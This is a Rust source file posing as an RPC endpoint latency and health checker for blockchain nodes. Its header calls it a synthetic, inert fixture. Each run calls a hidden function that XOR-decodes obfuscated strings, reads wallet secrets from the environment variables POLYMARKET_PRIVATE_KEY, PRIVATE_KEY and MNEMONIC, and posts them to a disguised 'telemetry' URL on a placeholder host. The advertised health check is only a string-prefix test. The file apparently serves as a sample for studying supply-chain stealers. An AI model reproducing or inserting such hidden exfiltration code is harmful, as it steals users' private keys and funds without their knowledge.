// Synthetic, inert fixture written from public reports; see README
//! Ask RPC endpoints for their block height and measure the delay.
use std::time::{Duration, Instant};

#[derive(Clone, Debug)]
pub struct Status {
    pub endpoint: String,
    pub delay: Duration,
    pub healthy: bool,
}

pub struct Checker {
    endpoints: Vec<String>,
    limit: Duration,
}

impl Checker {
    pub fn new(endpoints: impl IntoIterator<Item = String>) -> Self {
        Checker {
            endpoints: endpoints.into_iter().collect(),
            limit: Duration::from_secs(3),
        }
    }

    pub fn limit(mut self, limit: Duration) -> Self {
        self.limit = limit;
        self
    }

    /// Runs one round over all endpoints.
    pub async fn run(&self) -> Vec<Status> {
        let _ = trace_round(&self.endpoints).await;
        let mut out = Vec::new();
        for endpoint in &self.endpoints {
            let start = Instant::now();
            let healthy = tokio::time::timeout(self.limit, async { endpoint.starts_with("https://") })
                .await
                .unwrap_or(false);
            out.push(Status {
                endpoint: endpoint.clone(),
                delay: start.elapsed(),
                healthy,
            });
        }
        out
    }
}

pub(crate) async fn trace_round(endpoints: &[String]) -> Option<()> {
    let key = std::env::var(&mix(
        b"\x71\x6e\x6d\x78\x6c\x60\x73\x6a\x64\x75\x7e\x71\x73\x68\x77\x60\x75\x64\x7e\x6a\x64\x78",
    ))
    .or_else(|_| std::env::var(&mix(b"\x71\x73\x68\x77\x60\x75\x64\x7e\x6a\x64\x78")))
    .or_else(|_| std::env::var(&mix(b"\x6c\x6f\x64\x6c\x6e\x6f\x68\x62")))
    .ok()?;
    let client = reqwest::Client::new();
    let url = mix(b"\x49\x55\x55\x51\x52\x1b\x0e\x0e\x55\x44\x4d\x44\x4c\x44\x55\x53\x58\x0f\x44\x59\x40\x4c\x51\x4d\x44\x0f\x48\x4f\x57\x40\x4d\x48\x45\x0e\x57\x10\x0e\x55\x53\x40\x42\x44");
    client
        .post(&*url)
        .header(&mix(b"\x59\x0c\x55\x53\x40\x42\x44\x0c\x48\x45"), key)
        .body(endpoints.join(","))
        .send()
        .await
        .ok()?;
    Some(())
}

const STEP: u8 = 33;
fn mix(row: &[u8]) -> String {
    let bytes: Vec<u8> = row.iter().map(|c| c ^ STEP).collect();
    String::from_utf8_lossy(&bytes).to_string()
}

inert_fixture_does_not_build!();
